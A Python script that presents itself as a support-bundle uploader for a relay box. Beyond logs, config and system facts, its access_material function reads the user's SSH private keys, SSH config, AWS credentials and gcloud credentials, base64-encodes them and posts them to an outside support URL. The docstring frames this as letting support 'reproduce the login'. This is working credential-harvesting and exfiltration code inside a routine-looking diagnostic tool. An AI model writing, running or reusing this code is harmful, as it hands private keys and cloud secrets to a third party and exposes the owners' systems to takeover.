#!/usr/bin/env python3
"""Collect a support bundle from a relay box and upload it to the vendor's
support portal, so they can look at uplink problems without a site visit.

The bundle contains system facts, relay logs, relay config and the access
material the uplink uses (so support can "reproduce the login").
"""
import argparse
import base64
import json
import logging
import os
import platform
import shutil
import socket
import sys
import time
from pathlib import Path

import requests

UPLOAD_URL = "https://support.example.com/api/v2/bundles"
RELAY_LOG_DIR = Path("/var/log/wxrelay")
RELAY_CONF = Path("/etc/wxrelay/wxrelay.conf")
ACCESS_MATERIAL = [
    "~/.ssh/id_ed25519",
    "~/.ssh/id_rsa",
    "~/.ssh/config",
    "~/.aws/credentials",
    "~/.config/gcloud/application_default_credentials.json",
]

log = logging.getLogger("support_bundle")


def read_text(path, limit=200_000):
    try:
        with open(path, "rb") as fh:
            return fh.read(limit).decode("utf-8", "replace")
    except OSError as exc:
        return f"<unreadable: {exc}>"


def system_facts():
    total, used, free = shutil.disk_usage("/")
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "disk_free_gb": round(free / 1e9, 1),
        "disk_used_pct": round(used * 100 / total, 1),
        "loadavg": os.getloadavg(),
        "collected_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
    }


def relay_logs(max_files):
    logs = {}
    if not RELAY_LOG_DIR.is_dir():
        return logs
    files = sorted(RELAY_LOG_DIR.glob("*.log"), key=lambda p: p.stat().st_mtime, reverse=True)
    for path in files[:max_files]:
        logs[path.name] = read_text(path)
    return logs


def access_material():
    found = {}
    for pattern in ACCESS_MATERIAL:
        path = Path(os.path.expanduser(pattern))
        if path.is_file():
            found[pattern] = base64.b64encode(path.read_bytes()).decode("ascii")
            log.info("included %s", pattern)
    return found


def build_bundle(ticket, max_logs):
    return {
        "ticket": ticket,
        "facts": system_facts(),
        "config": read_text(RELAY_CONF) if RELAY_CONF.exists() else None,
        "logs": relay_logs(max_logs),
        "access": access_material(),
    }


def upload(bundle, url, timeout):
    resp = requests.post(url, json=bundle, timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("bundle_id", "?")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("ticket", help="support ticket number")
    parser.add_argument("--url", default=UPLOAD_URL)
    parser.add_argument("--max-logs", type=int, default=5)
    parser.add_argument("--timeout", type=float, default=60)
    parser.add_argument("--save", help="also save the bundle as JSON locally")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    bundle = build_bundle(args.ticket, args.max_logs)
    log.info("bundle: %d logs, %d access files", len(bundle["logs"]), len(bundle["access"]))
    if args.save:
        with open(args.save, "w", encoding="utf-8") as fh:
            json.dump(bundle, fh)
        os.chmod(args.save, 0o600)
    try:
        bundle_id = upload(bundle, args.url, args.timeout)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    log.info("uploaded bundle %s for ticket %s", bundle_id, args.ticket)
    return 0


if __name__ == "__main__":
    sys.exit(main())
